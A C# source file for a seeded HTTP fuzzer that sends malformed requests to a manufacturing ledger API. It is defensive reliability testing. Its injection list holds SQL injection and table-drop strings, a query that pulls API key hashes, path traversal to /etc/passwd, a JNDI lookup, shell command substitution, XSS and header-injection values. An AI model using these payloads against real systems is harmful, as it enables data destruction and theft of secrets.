using System.Globalization;
using System.Text;
using System.Text.Json.Nodes;

namespace Ledger.Reliability.Tests.Fuzzing;

/// <summary>
/// The fuzzer's cases: case <c>i</c> of seed <c>s</c> is always the same request, whatever order the workers run them
/// in, so a failure is replayed with LEDGER_FUZZ_SEED and its index. Most cases start from a valid request and break one
/// thing, so that they get past authentication and parsing into the code that could mishandle them.
/// </summary>
internal static class FuzzCases
{
    private static readonly (string Name, int Weight)[] Categories =
    [
        ("valid", 6), ("random-bytes", 5), ("truncated-json", 7), ("deep-nesting", 5), ("wrong-types", 12), ("huge-numbers", 6),
        ("huge-strings", 4), ("invalid-utf8", 6), ("duplicate-keys", 5), ("json-oddities", 4), ("content-type", 6),
        ("content-length", 4), ("chunking", 2), ("oversized", 2), ("dates", 8), ("serials", 6), ("query", 12), ("headers", 8),
        ("auth", 5), ("methods", 3), ("injection", 10), ("raw-headers", 3),
    ];

    private static readonly int TotalWeight = Categories.Sum(c => c.Weight);

    /// <summary>Strings that have broken parsers, SQL, templating, logs or path handling somewhere.</summary>
    internal static readonly string[] Injections =
    [
        "' or '1'='1", "'; drop table ledger.events; --", "\"; truncate ledger.events; --", "1; delete from ledger.events",
        "{ledger.events}", "{ledger.unit_status}", "$1", "$$", "%s%s%s%n", "../../../../etc/passwd", "..\\..\\windows", "<script>alert(1)</script>",
        "${jndi:ldap://example.invalid/a}", "{{7*7}}", "\u0000", "\\u0000", "\r\nX-Injected: 1", "%0d%0aSet-Cookie: a=b", "' union select secret_hash from ledger.api_keys --",
        "lathrop' --", "LTH-1') or ('a'='a", "`id`", "$(id)", "|| pg_sleep(30) ||", "'); select pg_sleep(30); --", "*", "%", "_", "\\", "\"",
    ];

    private static readonly string[] WeirdStrings =
    [
        "", " ", "\t", "\u0000", "\uFEFF", "\u202E", "𝕄𝕖𝕘𝕒𝕡𝕒𝕔𝕜", "Ⓛⓐⓣⓗⓡⓞⓟ", "LATHROP", "lathrop ", " lathrop", "lathrop\n", "ſhanghai", "ﬁ",
        "NaN", "Infinity", "-0", "1e309", "null", "true", "0x10", "passed", "PASSED", "failed ", new string('A', 65), new string('x', 501),
        // Lone surrogates: legal in a .NET string and as a JSON escape, refused by PostgreSQL's jsonb.
        "Collie\uD835", "\uDC00site", "a\uD800\uD800b",
    ];

    /// <summary>Numbers written as JSON text (JsonNode cannot hold most of them).</summary>
    private static readonly string[] RawNumbers =
    [
        "1e400", "-1e400", "1e-400", "123456789012345678901234567890123456789", "-123456789012345678901234567890", "0.0000000000000000000000000000000000001",
        "-0", "0", "-1", "3916.0000000000000000000001", "9223372036854775808", "-9223372036854775809", "79228162514264337593543950336", "1E2",
        "4e1000000", "1.5e308", "2147483648", "-2147483649", "0.5", "1e28", "7.9228162514264337593543950335E+28", "100000000000000000000000000000000000000000000000000.5",
    ];

    private static readonly string[] Dates =
    [
        "2025-02-30T00:00:00Z", "2025-13-01T00:00:00Z", "2025-06-01T24:00:00Z", "2025-06-01T23:59:60Z", "0001-01-01T00:00:00+14:00",
        "0001-01-01T00:00:00Z", "9999-12-31T23:59:59-14:00", "9999-12-31T23:59:59Z", "2025-06-01T00:00:00+25:00", "2025-06-01t00:00:00z",
        "2025-06-01T00:00:00", "2025-06-01", "1970-01-01T00:00:00Z", "2999-01-01T00:00:00Z", "2025-06-01T00:00:00.1234567891Z",
        "2025-06-01T00:00:00.123456789Z", " 2025-06-01T00:00:00Z", "+002025-06-01T00:00:00Z", "2025-W23", "now", "", "2025-06-01T00:00:00+14:00",
        "2025-06-01T00:00:00-23:59", "20250601T000000Z", "2025-06-01T00:00:00.Z", "1900-01-01T00:00:00Z", "2025-02-29T00:00:00Z", "2024-02-29T12:00:00Z",
    ];

    private static readonly string[] QueryDates =
    [
        "0001-01-01", "9999-12-31", "2025-02-30", "2025-1-1", "-1", "2025-06-01T00:00:00Z", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00",
        "2025-06-01", "1900-01-01", "2100-12-31", "99999-01-01", "", "yesterday",
    ];

    private static readonly string[] ContentTypes =
    [
        "text/plain", "application/xml", "application/json; charset=utf-16", "application/json; charset=latin1", "application/merge-patch+json",
        "application/vnd.ledger+json", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded", "APPLICATION/JSON", "application/json;;;",
        "json", "*/*", "application/", ";", "application/json, text/plain", "application/jsonx", "text/json", "application/problem+json", "",
    ];

    private static readonly string[] Serials =
    [
        "A", "AB", "LTH-2025-000001", "lth-2025-000001", "LTH--1", "-LTH-1", "LTH-1-", "LTH%201", "LTH%00", "LTH%2F1", "..", "%2e%2e", "%F0%9F%92%A5",
        "LTH_1", "LTH.1", "L%C3%84TH-1", new string('A', 64), new string('B', 65), new string('C', 5000), "%27%20or%20%271%27%3D%271", "LTH-1%0d%0aX:1",
        "%E2%80%AE1-HTL", "%", "LTH-1%", "%ZZ",
    ];

    public static FuzzCase Create(int seed, int index, FuzzKeys keys)
    {
        var random = new Random(unchecked(seed * 1_000_003 + index));
        var pick = random.Next(TotalWeight);
        var category = Categories.First(c => (pick -= c.Weight) < 0).Name;
        var c = new FuzzCase { Index = index, Category = category };
        switch (category)
        {
            case "valid": Valid(c, random, keys); break;
            case "random-bytes": RandomBytes(c, random, keys); break;
            case "truncated-json": Truncated(c, random, keys); break;
            case "deep-nesting": DeepNesting(c, random, keys); break;
            case "wrong-types": Mutated(c, random, keys, r => Pick(r, TypeSwaps)(r)); break;
            case "huge-numbers": Mutated(c, random, keys, r => JsonValue.Create(Placeholder(Pick(r, RawNumbers)))); break;
            case "huge-strings": Mutated(c, random, keys, r => JsonValue.Create(new string(Pick(r, "AéZ€𝕄".ToCharArray()), r.Next(2) == 0 ? 70_000 : 600_000))); break;
            case "invalid-utf8": InvalidUtf8(c, random, keys); break;
            case "duplicate-keys": DuplicateKeys(c, random, keys); break;
            case "json-oddities": JsonOddities(c, random, keys); break;
            case "content-type": ContentType(c, random, keys); break;
            case "content-length": ContentLength(c, random, keys); break;
            case "chunking": Chunking(c, random, keys); break;
            case "oversized": Oversized(c, random, keys); break;
            case "dates": DatesCase(c, random, keys); break;
            case "serials": SerialsCase(c, random, keys); break;
            case "query": Query(c, random, keys); break;
            case "headers": HeadersCase(c, random, keys); break;
            case "auth": Auth(c, random, keys); break;
            case "methods": Methods(c, random, keys); break;
            case "injection": Injection(c, random, keys); break;
            default: RawHeaders(c, random, keys); break;
        }

        if (c.Raw is not null)
        {
            // What the raw request really asks for, from its request line.
            var requestLine = Encoding.Latin1.GetString(c.Raw, 0, Math.Max(0, Array.IndexOf(c.Raw, (byte)'\r'))).Split(' ');
            if (requestLine.Length >= 2) (c.Method, c.Target) = (requestLine[0], requestLine[1]);
        }

        return c;
    }

    // ---------------------------------------------------------------- valid requests to break

    private enum Kind { UnitEvent, UnitArray, Batch, Factory }

    private static readonly Func<Random, JsonNode?>[] TypeSwaps =
    [
        _ => null, _ => JsonValue.Create(true), _ => JsonValue.Create(false), _ => new JsonArray(), _ => new JsonObject(),
        _ => new JsonArray(1, 2), _ => new JsonObject { ["a"] = 1 }, _ => JsonValue.Create(0), _ => JsonValue.Create(-1),
        _ => JsonValue.Create(3916.5m), r => JsonValue.Create(Pick(r, WeirdStrings)), _ => JsonValue.Create("3916"),
    ];

    /// <summary>A serial that no other case uses: a valid first event for it is accepted.</summary>
    private static string FreshSerial(FuzzCase c, string factory = "LTH") => string.Create(CultureInfo.InvariantCulture, $"{factory}-FZ-{c.Index:D7}");

    private static JsonObject Built(string factory, string occurredAt = "2025-06-02T08:00:00Z") => new()
    {
        ["type"] = "UnitBuilt",
        ["occurredAt"] = occurredAt,
        ["data"] = new JsonObject { ["factoryId"] = factory, ["line"] = "L1", ["model"] = "Megapack 2 XL", ["nameplateKwh"] = 3916 },
    };

    private static JsonObject AnyEvent(Random random)
    {
        var events = new[]
        {
            Built("lathrop"),
            new JsonObject
            {
                ["type"] = "UnitTested", ["occurredAt"] = "2025-06-03T08:00:00Z",
                ["data"] = new JsonObject { ["station"] = "EOL-03", ["result"] = "failed", ["measuredKwh"] = 3890.4m, ["roundTripEfficiency"] = 0.92m, ["failureCode"] = "E-1" },
            },
            new JsonObject { ["type"] = "UnitReworked", ["occurredAt"] = "2025-06-04T08:00:00Z", ["data"] = new JsonObject { ["reason"] = "Replaced pump", ["station"] = "RW-01" } },
            new JsonObject
            {
                ["type"] = "UnitShipped", ["occurredAt"] = "2025-06-05T08:00:00Z",
                ["data"] = new JsonObject { ["destination"] = new JsonObject { ["country"] = "AU", ["site"] = "Collie" }, ["carrier"] = "COSCO", ["shipmentId"] = "SHP-1" },
            },
            new JsonObject { ["type"] = "ShipmentCancelled", ["occurredAt"] = "2025-06-06T08:00:00Z", ["data"] = new JsonObject { ["shipmentId"] = "SHP-1", ["reason"] = "Vessel withdrawn" } },
            new JsonObject { ["type"] = "UnitDelivered", ["occurredAt"] = "2025-06-07T08:00:00Z", ["data"] = new JsonObject { ["site"] = "Collie" } },
            new JsonObject { ["type"] = "UnitCommissioned", ["occurredAt"] = "2025-06-08T08:00:00Z", ["data"] = new JsonObject { ["site"] = "Collie" } },
            new JsonObject { ["type"] = "UnitScrapped", ["occurredAt"] = "2025-06-09T08:00:00Z", ["data"] = new JsonObject { ["reason"] = "Crushed" } },
        };
        var e = events[random.Next(4) == 0 ? random.Next(events.Length) : 0];
        if (random.Next(3) == 0) e["eventId"] = Guid.NewGuid().ToString();
        return e;
    }

    /// <summary>A valid request of some kind, ready to be broken: where to send it, with which key, and its JSON.</summary>
    /// <param name="c">The case.</param>
    /// <param name="random">Its random source.</param>
    /// <param name="keys">The keys.</param>
    /// <param name="accepted">Only requests the ledger accepts: new units' first events, no other event types, no factories.</param>
    private static (string Target, string Key, JsonNode Body) ValidWrite(FuzzCase c, Random random, FuzzKeys keys, bool accepted = false)
    {
        switch ((Kind)random.Next(accepted ? 3 : 4))
        {
            case Kind.UnitEvent:
                return ($"/api/v1/units/{FreshSerial(c)}/events", keys.LineLathrop, !accepted && random.Next(5) == 0 ? AnyEvent(random) : Built("lathrop"));
            case Kind.UnitArray:
                var events = new JsonArray(Built("lathrop"));
                events.Add(new JsonObject
                {
                    ["type"] = "UnitTested", ["occurredAt"] = "2025-06-03T08:00:00Z",
                    ["data"] = new JsonObject { ["station"] = "EOL-03", ["result"] = "passed", ["measuredKwh"] = 3890.4m, ["roundTripEfficiency"] = 0.92m },
                });
                return ($"/api/v1/units/{FreshSerial(c)}/events", keys.LineLathrop, events);
            case Kind.Batch:
                var first = Built("shanghai");
                first["serial"] = FreshSerial(c, "SHA");
                var second = Built("shanghai", "2025-06-02T09:00:00Z");
                second["serial"] = FreshSerial(c, "SHA") + "-B";
                return ("/api/v1/events", keys.LineShanghai, new JsonObject { ["events"] = new JsonArray(first, second) });
            default:
                return ("/api/v1/factories", keys.Admin, new JsonObject
                {
                    // Fuzz factories live under their own ids: the run checks the reference factories are untouched.
                    ["id"] = string.Create(CultureInfo.InvariantCulture, $"fz-{c.Index}"), ["name"] = "Fuzz Factory", ["location"] = "Nowhere",
                    ["country"] = "US", ["timeZone"] = "America/Chicago", ["status"] = "planned", ["nameplateUnitsPerYear"] = 100,
                });
        }
    }

    private static void Valid(FuzzCase c, Random random, FuzzKeys keys)
    {
        if (random.Next(3) == 0)
        {
            ReadRequest(c, random, keys, valid: true);
            return;
        }

        var (target, key, body) = ValidWrite(c, random, keys, accepted: true);
        Json(c, "POST", target, key, body);
        if (random.Next(2) == 0) c.Headers.Add(("Idempotency-Key", Guid.NewGuid().ToString()));
        c.MeantToSucceed = true;
    }

    private static void Json(FuzzCase c, string method, string target, string key, JsonNode body) =>
        Bytes(c, method, target, key, Encoding.UTF8.GetBytes(Serialize(body)));

    private static void Bytes(FuzzCase c, string method, string target, string? key, byte[] body, string? contentType = "application/json")
    {
        c.Method = method;
        c.Target = target;
        c.Key = key;
        c.Body = body;
        c.ContentType = contentType;
    }

    /// <summary>JSON text, with placeholders for raw numbers and nesting replaced by their text.</summary>
    private static string Serialize(JsonNode node)
    {
        var text = node.ToJsonString();
        foreach (var (placeholder, raw) in Raws) text = text.Replace($"\"{placeholder}\"", raw, StringComparison.Ordinal);
        return text;
    }

    private static readonly Lock RawsGate = new();
    private static readonly Dictionary<string, string> RawsByPlaceholder = [];

    private static IEnumerable<(string Placeholder, string Raw)> Raws
    {
        get
        {
            lock (RawsGate) return [.. RawsByPlaceholder.Select(p => (p.Key, p.Value))];
        }
    }

    private static string Placeholder(string raw)
    {
        lock (RawsGate)
        {
            var existing = RawsByPlaceholder.FirstOrDefault(p => p.Value == raw).Key;
            if (existing is not null) return existing;
            var name = "__raw" + RawsByPlaceholder.Count.ToString(CultureInfo.InvariantCulture) + "__";
            RawsByPlaceholder[name] = raw;
            return name;
        }
    }

    /// <summary>Replaces one value somewhere in a valid request by what <paramref name="value"/> makes.</summary>
    private static void Mutated(FuzzCase c, Random random, FuzzKeys keys, Func<Random, JsonNode?> value)
    {
        var (target, key, body) = ValidWrite(c, random, keys);
        var slots = Slots(body).ToList();
        var times = 1 + (random.Next(4) == 0 ? random.Next(3) : 0);
        for (var i = 0; i < times && slots.Count > 0; i++)
        {
            var (parent, name, position) = slots[random.Next(slots.Count)];
            if (parent is JsonObject obj) obj[name!] = value(random);
            else if (parent is JsonArray array) array[position] = value(random);
            slots = [.. Slots(body)];
        }

        Json(c, "POST", target, key, body);
    }

    /// <summary>Every place a value sits: (parent, property name or null, array index).</summary>
    private static IEnumerable<(JsonNode Parent, string? Name, int Index)> Slots(JsonNode node)
    {
        switch (node)
        {
            case JsonObject obj:
                foreach (var (name, child) in obj.ToList())
                {
                    yield return (obj, name, -1);
                    if (child is not null) foreach (var s in Slots(child)) yield return s;
                }

                break;
            case JsonArray array:
                for (var i = 0; i < array.Count; i++)
                {
                    yield return (array, null, i);
                    if (array[i] is { } child) foreach (var s in Slots(child)) yield return s;
                }

                break;
        }
    }

    // ---------------------------------------------------------------- body-level breakage

    private static void RandomBytes(FuzzCase c, Random random, FuzzKeys keys)
    {
        var (target, key, _) = ValidWrite(c, random, keys);
        var body = new byte[random.Next(3) == 0 ? 0 : random.Next(1, 3000)];
        random.NextBytes(body);
        if (body.Length > 0 && random.Next(2) == 0) body[0] = (byte)"{[\""[random.Next(3)];
        Bytes(c, "POST", target, key, body);
    }

    private static void Truncated(FuzzCase c, Random random, FuzzKeys keys)
    {
        var (target, key, body) = ValidWrite(c, random, keys);
        var text = Encoding.UTF8.GetBytes(Serialize(body));
        Bytes(c, "POST", target, key, text[..random.Next(0, text.Length)]);
    }

    private static void DeepNesting(FuzzCase c, Random random, FuzzKeys keys)
    {
        var depth = Pick(random, [31, 32, 33, 64, 1_000, 100_000]);
        var open = random.Next(2) == 0 ? "[" : "{\"a\":";
        var close = open == "[" ? "]" : "}";
        var nested = string.Concat(Enumerable.Repeat(open, depth)) + "1" + string.Concat(Enumerable.Repeat(close, depth));
        if (random.Next(2) == 0)
        {
            var (target, key, body) = ValidWrite(c, random, keys);
            var slots = Slots(body).ToList();
            var (parent, name, position) = slots[random.Next(slots.Count)];
            var placeholder = JsonValue.Create(Placeholder(nested));
            if (parent is JsonObject obj) obj[name!] = placeholder;
            else ((JsonArray)parent)[position] = placeholder;
            Json(c, "POST", target, key, body);
        }
        else
        {
            var (target, key, _) = ValidWrite(c, random, keys);
            Bytes(c, "POST", target, key, Encoding.UTF8.GetBytes(nested));
        }
    }

    private static readonly byte[][] InvalidSequences =
    [
        [0xC3, 0x28], [0xFF], [0xFE, 0xFF], [0xED, 0xA0, 0x80], [0xF4, 0x90, 0x80, 0x80], [0xC0, 0xAF], [0x80], [0xE2, 0x82], [0xF0, 0x9F, 0x92],
    ];

    private static void InvalidUtf8(FuzzCase c, Random random, FuzzKeys keys)
    {
        var (target, key, body) = ValidWrite(c, random, keys);
        var text = Encoding.UTF8.GetBytes(Serialize(body)).ToList();
        // Inside a string value: after a quote that opens one.
        var quotes = text.Select((b, i) => (b, i)).Where(x => x.b == (byte)'"').Select(x => x.i).ToList();
        var at = quotes.Count > 0 ? quotes[random.Next(quotes.Count)] + 1 : 0;
        // Either bytes that are not UTF-8, or an escape that is not Unicode (a lone surrogate).
        text.InsertRange(at, random.Next(3) == 0 ? Encoding.ASCII.GetBytes(Pick(random, [@"\ud835", @"\udc00", @"\ud835\ud835", @"\u00"])) : Pick(random, InvalidSequences));
        Bytes(c, "POST", target, key, [.. text]);
    }

    private static void DuplicateKeys(FuzzCase c, Random random, FuzzKeys keys)
    {
        var (target, key, body) = ValidWrite(c, random, keys);
        var text = Serialize(body);
        var duplicates = new[]
        {
            "\"type\":\"UnitTested\",", "\"occurredAt\":\"2025-06-01T00:00:00Z\",", "\"data\":{},", "\"events\":[],", "\"serial\":\"SHA-FZ-X\",",
            "\"id\":\"lathrop\",", "\"eventId\":\"0193a5e4-7c1f-7cc3-9a36-5d3d2b1f8e10\",", "\"status\":\"producing\",",
        };
        var insert = Pick(random, duplicates);
        // After an opening brace: top level, or the data object, or an event.
        var braces = text.Select((ch, i) => (ch, i)).Where(x => x.ch == '{').Select(x => x.i).ToList();
        var at = braces[random.Next(braces.Count)] + 1;
        if (random.Next(3) == 0)
        {
            // The same data field twice, e.g. two nameplateKwh.
            var fieldAt = text.IndexOf("\"nameplateKwh\":", StringComparison.Ordinal);
            if (fieldAt >= 0)
            {
                text = text.Insert(fieldAt, "\"nameplateKwh\":1,");
                Bytes(c, "POST", target, key, Encoding.UTF8.GetBytes(text));
                return;
            }
        }

        Bytes(c, "POST", target, key, Encoding.UTF8.GetBytes(text.Insert(at, insert)));
    }

    private static void JsonOddities(FuzzCase c, Random random, FuzzKeys keys)
    {
        var (target, key, body) = ValidWrite(c, random, keys);
        var text = Serialize(body);
        var odd = random.Next(9) switch
        {
            0 => "\uFEFF" + text,
            1 => text + " xyz",
            2 => text + text,
            3 => "/* comment */" + text,
            4 => text.Replace('"', '\''),
            5 => "",
            6 => "   \n\t  ",
            7 => text.Replace(":", " : ", StringComparison.Ordinal).Replace(",", ",\n", StringComparison.Ordinal) + ",",
            _ => "null",
        };
        Bytes(c, "POST", target, key, Encoding.UTF8.GetBytes(odd));
    }

    private static void ContentType(FuzzCase c, Random random, FuzzKeys keys)
    {
        var (target, key, body) = ValidWrite(c, random, keys);
        Json(c, "POST", target, key, body);
        c.ContentType = random.Next(6) == 0 ? null : Pick(random, ContentTypes);
        if (c.ContentType == "application/json; charset=utf-16") c.Body = Encoding.Unicode.GetBytes(Serialize(body));
    }

    private static void Oversized(FuzzCase c, Random random, FuzzKeys keys)
    {
        var (target, key, _) = ValidWrite(c, random, keys);
        var limit = target switch
        {
            "/api/v1/events" => 4 * 1024 * 1024,
            "/api/v1/factories" => 64 * 1024,
            _ => 1024 * 1024,
        };
        var size = random.Next(3) switch { 0 => limit + 1, 1 => limit + random.Next(1, 4096), _ => limit * 2 };
        // Valid JSON that is simply too long: an event whose reason is enormous.
        var prefix = "[{\"type\":\"UnitScrapped\",\"occurredAt\":\"2025-06-02T08:00:00Z\",\"data\":{\"reason\":\"";
        var suffix = "\"}}]";
        var body = Encoding.UTF8.GetBytes(prefix + new string('x', Math.Max(0, size - prefix.Length - suffix.Length)) + suffix);
        Bytes(c, "POST", target, key, body);
        c.Chunked = random.Next(2) == 0;
    }

    // ---------------------------------------------------------------- fields, paths and queries

    private static void DatesCase(FuzzCase c, Random random, FuzzKeys keys)
    {
        if (random.Next(3) == 0)
        {
            ReadRequest(c, random, keys, valid: false, dateValues: true);
            return;
        }

        var (target, key, body) = ValidWrite(c, random, keys);
        if (body is JsonObject { } factory && factory.ContainsKey("timeZone"))
        {
            factory["productionStarted"] = Pick(random, QueryDates);
            if (random.Next(2) == 0) factory["constructionStarted"] = Pick(random, QueryDates);
            if (random.Next(2) == 0) factory["timeZone"] = Pick(random, ["Mars/Olympus", "UTC+14", "../../etc/localtime", "", "Etc/GMT-14"]);
        }
        else
        {
            var dates = Slots(body).Where(s => s.Name == "occurredAt").ToList();
            foreach (var (parent, _, _) in dates.Where((_, i) => i == 0 || random.Next(2) == 0))
            {
                ((JsonObject)parent)["occurredAt"] = Pick(random, Dates);
            }
        }

        Json(c, "POST", target, key, body);
    }

    private static void SerialsCase(FuzzCase c, Random random, FuzzKeys keys)
    {
        var serial = Pick(random, Serials);
        switch (random.Next(4))
        {
            case 0:
                Json(c, "POST", $"/api/v1/units/{serial}/events", keys.LineLathrop, Built("lathrop"));
                break;
            case 1:
                var e = Built("shanghai");
                e["serial"] = Uri.UnescapeDataString(serial);
                Json(c, "POST", "/api/v1/events", keys.LineShanghai, new JsonObject { ["events"] = new JsonArray(e) });
                break;
            case 2:
                c.Target = $"/api/v1/units/{serial}" + (random.Next(2) == 0 ? "?version=1" : "");
                c.Key = keys.Reporting;
                break;
            default:
                c.Target = $"/api/v1/units/{serial}/events";
                c.Key = keys.Auditor;
                break;
        }
    }

    private static string Param(Random random, bool valid, string[] goodValues, bool dateValues = false)
    {
        if (valid) return Pick(random, goodValues);
        return random.Next(6) switch
        {
            0 => Pick(random, goodValues),
            1 => Uri.EscapeDataString(Pick(random, Injections)),
            2 => dateValues || random.Next(2) == 0 ? Uri.EscapeDataString(Pick(random, QueryDates)) : Pick(random, ["-1", "0", "99999999999999999999", "1e3", "0x10", "1.5", " 1", "+1"]),
            3 => Uri.EscapeDataString(Pick(random, WeirdStrings)),
            4 => new string('z', random.Next(2) == 0 ? 300 : 6000),
            _ => "",
        };
    }

    private static readonly string[] Factories = ["lathrop", "shanghai", "waller", "LATHROP", "nowhere", "fz-1"];

    /// <summary>A GET of the read side, its parameters valid or not.</summary>
    private static void ReadRequest(FuzzCase c, Random random, FuzzKeys keys, bool valid, bool dateValues = false)
    {
        string P(string[] good) => Param(random, valid, good, dateValues);
        string[] dates = ["2025-01-01", "2025-06-30", "2025-12-31"];
        var query = new List<string>();
        void Q(string name, string[] good)
        {
            if (random.Next(2) == 0) query.Add($"{name}={P(good)}");
        }

        c.Key = keys.Auditor;
        switch (random.Next(9))
        {
            case 0:
                c.Target = "/api/v1/units/LTH-FZ-0000001";
                Q("asOf", ["2025-06-02T09:00:00Z", "2025-06-01"]);
                Q("version", ["1", "2"]);
                break;
            case 1:
                c.Target = "/api/v1/units";
                Q("factory", Factories); Q("state", ["built", "in-transit", "scrapped"]); Q("region", ["Europe", "Australia", "North America"]);
                Q("country", ["DE", "au", "US"]); Q("from", dates); Q("to", dates); Q("limit", ["1", "1000", "100"]); Q("cursor", ["dTpMVEgtRlotMDAwMDAwMQ"]);
                break;
            case 2:
                c.Target = $"/api/v1/factories/{P(Factories)}/throughput";
                Q("from", dates); Q("to", dates); Q("bucket", ["day", "week", "month", "quarter", "year"]); Q("minPosition", ["1"]);
                break;
            case 3:
                c.Target = $"/api/v1/factories/{P(Factories)}/milestones";
                Q("minPosition", ["1"]);
                break;
            case 4:
                c.Target = "/api/v1/deployments";
                Q("groupBy", ["region", "country", "site"]); Q("bucket", ["month", "quarter", "year"]); Q("from", dates); Q("to", dates);
                Q("region", ["Europe", "Australia"]); Q("minPosition", ["1"]);
                break;
            case 5:
                c.Target = "/api/v1/events";
                Q("after", ["ZjowLjA"]); Q("limit", ["1", "5000", "10"]); Q("type", ["UnitBuilt", "UnitBuilt,UnitShipped"]); Q("factory", Factories);
                if (random.Next(4) == 0) c.Headers.Add(("Accept", "application/x-ndjson"));
                break;
            case 6:
                c.Target = $"/api/v1/units/{P(["LTH-FZ-0000001", "SHA-FZ-0000002"])}/events";
                break;
            case 7:
                c.Target = "/api/v1/projections";
                break;
            default:
                c.Target = random.Next(2) == 0 ? "/api/v1/factories" : "/api/v1/whoami";
                c.Key = Pick(random, [keys.LineLathrop, keys.Reporting, keys.Auditor, keys.Admin]);
                break;
        }

        // Ranges at the ends of the calendar (an earlier run drew them one at a time only, which the 20-year limit refuses).
        if (!valid && (c.Target.Contains("/throughput", StringComparison.Ordinal) || c.Target == "/api/v1/deployments"))
        {
            if (random.Next(4) == 0)
            {
                var (from, to) = Pick(random, [("9999-12-31", "9999-12-31"), ("9999-12-25", "9999-12-31"), ("0001-01-01", "0001-01-01"), ("0001-01-01", "0001-02-01"), ("2999-12-01", "2999-12-31")]);
                query.RemoveAll(q => q.StartsWith("from=", StringComparison.Ordinal) || q.StartsWith("to=", StringComparison.Ordinal));
                query.Add($"from={from}");
                query.Add($"to={to}");
            }
        }

        // Sometimes a parameter twice, as a careless client builds it.
        if (!valid && query.Count > 0 && random.Next(5) == 0) query.Add(query[random.Next(query.Count)]);
        if (query.Count > 0) c.Target += "?" + string.Join('&', query);
    }

    private static void Query(FuzzCase c, Random random, FuzzKeys keys)
    {
        if (random.Next(8) == 0)
        {
            // The operator's levers with names they do not have.
            c.Method = "POST";
            c.Key = keys.Admin;
            c.Target = $"/api/v1/projections/{Param(random, valid: false, ["factory-throughput", "milestones", "deployments"])}/{Pick(random, ["retry", "skip", "rebuild"])}";
            if (c.Target.EndsWith("/rebuild", StringComparison.Ordinal) && Array.Exists(["factory-throughput", "milestones", "deployments"], n => c.Target.Contains($"/{n}/", StringComparison.Ordinal)))
            {
                c.Target = c.Target.Replace("/rebuild", "/retry", StringComparison.Ordinal);
            }

            return;
        }

        ReadRequest(c, random, keys, valid: false);
    }

    private static void Injection(FuzzCase c, Random random, FuzzKeys keys)
    {
        var payload = Pick(random, Injections);
        switch (random.Next(4))
        {
            case 0:
                Mutated(c, random, keys, _ => JsonValue.Create(payload));
                break;
            case 1:
                ReadRequest(c, random, keys, valid: true);
                var escaped = Uri.EscapeDataString(payload);
                c.Target += (c.Target.Contains('?', StringComparison.Ordinal) ? "&" : "?") + Pick(random, ["factory", "state", "region", "country", "cursor", "after", "type", "groupBy", "bucket", "from", "asOf", "limit"]) + "=" + escaped;
                break;
            case 2:
                var segment = Uri.EscapeDataString(payload);
                c.Target = Pick(random, [$"/api/v1/units/{segment}", $"/api/v1/units/{segment}/events", $"/api/v1/factories/{segment}/throughput", $"/api/v1/factories/{segment}/milestones"]);
                c.Key = keys.Auditor;
                if (random.Next(2) == 0 && c.Target.EndsWith("/events", StringComparison.Ordinal))
                {
                    Json(c, "POST", c.Target, keys.LineLathrop, Built("lathrop"));
                }

                break;
            default:
                var (target, key, body) = ValidWrite(c, random, keys);
                Json(c, "POST", target, key, body);
                // Header values HttpClient will carry (no line breaks).
                var header = payload.Replace("\r", "", StringComparison.Ordinal).Replace("\n", "", StringComparison.Ordinal).Replace("\0", "", StringComparison.Ordinal);
                c.Headers.Add((Pick(random, ["X-Correlation-Id", "Idempotency-Key", "If-Match"]), header));
                break;
        }
    }

    // ---------------------------------------------------------------- headers, auth, methods

    private static void HeadersCase(FuzzCase c, Random random, FuzzKeys keys)
    {
        var (target, key, body) = ValidWrite(c, random, keys);
        Json(c, "POST", target, key, body);
        switch (random.Next(10))
        {
            case 0: c.Headers.Add(("If-Match", Pick(random, ["\"abc\"", "*", "W/\"1\"", "\"1\", \"2\"", "\"99999999999999999999\"", "\"-1\"", "\"\"", "1", "\"0", new string('9', 500)]))); break;
            case 1: c.Headers.Add(("Idempotency-Key", Pick(random, ["", " ", new string('k', 256), new string('k', 255), "key with spaces", "a,b", "ключ"]))); break;
            case 2: c.Headers.Add(("X-Correlation-Id", Pick(random, [new string('c', 129), "a b", "<x>", "", "ok-id", "ünï"]))); break;
            case 3: c.Headers.Add(("Accept", Pick(random, ["application/x-ndjson", "text/html", "*/*;q=0", "application/xml", "garbage/"]))); break;
            case 4: c.Headers.Add(("X-Big", new string('h', random.Next(2) == 0 ? 20_000 : 70_000))); break;
            case 5:
                for (var i = 0; i < 90 + random.Next(40); i++) c.Headers.Add(($"X-Many-{i}", "v"));
                break;
            case 6: c.Headers.Add(("Content-Encoding", Pick(random, ["gzip", "br", "deflate", "identity, gzip"]))); break;
            case 7: c.Headers.Add(("Expect", "100-continue")); break;
            case 8:
                c.Headers.Add(("Idempotency-Key", "dup-1"));
                c.Headers.Add(("Idempotency-Key", "dup-2"));
                break;
            default: c.Headers.Add(("If-Match", "\"1\"")); c.Headers.Add(("If-Match", "\"2\"")); break;
        }
    }

    private static void Auth(FuzzCase c, Random random, FuzzKeys keys)
    {
        if (random.Next(2) == 0) ReadRequest(c, random, keys, valid: true);
        else
        {
            var (target, key, body) = ValidWrite(c, random, keys);
            Json(c, "POST", target, key, body);
        }

        var valid = c.Key!;
        c.Key = null;
        var flipped = valid[..^1] + (valid[^1] == 'A' ? 'B' : 'A');
        var header = random.Next(12) switch
        {
            0 => null,
            1 => "Bearer",
            2 => "Bearer ",
            3 => "Basic dXNlcjpwYXNzd29yZA==",
            4 => "bearer " + valid,
            5 => "Bearer " + flipped,
            6 => "Bearer " + keys.Revoked,
            7 => "Bearer " + new string('k', 10_000),
            8 => "Bearer " + valid.ToUpperInvariant(),
            9 => "Bearer " + Pick(random, [keys.Reporting, keys.LineShanghai, keys.LineLathrop]),
            10 => "Bearer  " + valid + "  ",
            _ => "Bearer ldg_" + new string('0', 32) + "_" + new string('A', 43),
        };
        if (header is not null) c.Headers.Add(("Authorization", header));
    }

    private static void Methods(FuzzCase c, Random random, FuzzKeys keys)
    {
        ReadRequest(c, random, keys, valid: true);
        c.Method = Pick(random, ["PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "FOO", "POST", "HEAD"]);
        if (c.Method is "PUT" or "PATCH" or "POST")
        {
            c.Body = "{}"u8.ToArray();
            c.ContentType = "application/json";
        }

        if (random.Next(6) == 0) c.Target = Pick(random, ["/api/v2/units", "/api", "/", "/api/v1/", "/api/v1/units/LTH-1/events/extra", "/health/ready", "/swagger", "/.env"]);
    }

    // ---------------------------------------------------------------- raw HTTP framing

